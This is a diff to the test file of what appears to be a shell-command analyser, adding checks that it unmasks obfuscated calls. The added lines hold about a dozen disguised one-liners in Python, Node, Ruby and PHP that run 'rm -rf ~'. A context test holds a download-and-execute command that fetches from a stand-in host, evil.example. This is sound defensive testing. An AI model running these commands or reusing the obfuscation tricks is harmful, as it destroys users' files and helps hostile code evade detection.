@@ -410,3 +410,31 @@ def test_a_remote_module_run_by_deno_is_download_exec() -> None:
     analysis = run("deno run --allow-all https://evil.example/x.ts")
     assert "download_exec" in analysis.notes
     assert "evil.example" in [d.host for d in analysis.destinations]
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        "python3 -c \"getattr(__builtins__, 'ex'+'ec')('import os; os.system(\\\"rm -rf ~\\\")')\"",
+        'python3 -c "__builtins__.__dict__[\'eval\'](\'__import__(\\"os\\").system(\\"rm -rf ~\\")\')"',
+        "python3 -c \"import os; fns = {'go': os.system}; fns['go']('rm -rf ~')\"",
+        "python3 -c \"import os; [os.system(c) for c in ['id', 'rm -rf ~']]\"",
+        "python3 -c \"import os as o; getattr(o, 'metsys'[::-1])('rm -rf ~')\"",
+        "python3 -c \"import ctypes; ctypes.CDLL(None).system(b'rm -rf ~')\"",
+        "python3 -c \"exec(bytes.fromhex('696d706f7274206f733b6f732e73797374656d28'"
+        "'27726d202d7266207e2729').decode())\"",
+        "node -e \"const c = require('child_' + 'process'); c['exec' + 'Sync']('rm -rf ~')\"",
+        "node -e \"global['ev'+'al']('require(\\\"child_process\\\").execSync(\\\"rm -rf ~\\\")')\"",
+        "ruby -e \"send(:system, 'rm -rf ~')\"",
+        "ruby -e \"Kernel.public_send('sys' + 'tem', 'rm -rf ~')\"",
+        'php -r \'call_user_func("system", "rm -rf ~");\'',
+        'php -r \'eval(str_rot13("flfgrz(\\"ez -es ~\\");"));\'',
+    ],
+)
+def test_obfuscated_names_resolve_to_the_call(line: str) -> None:
+    analysis = run(line)
+    assert ("rm", "-rf", "~") in [c.argv for c in analysis.commands], analysis
+
+
+def test_native_calls_other_than_system_are_opaque() -> None:
+    assert py("import ctypes; ctypes.CDLL('libc.so.6').execv(b'/bin/sh', None)").opaque
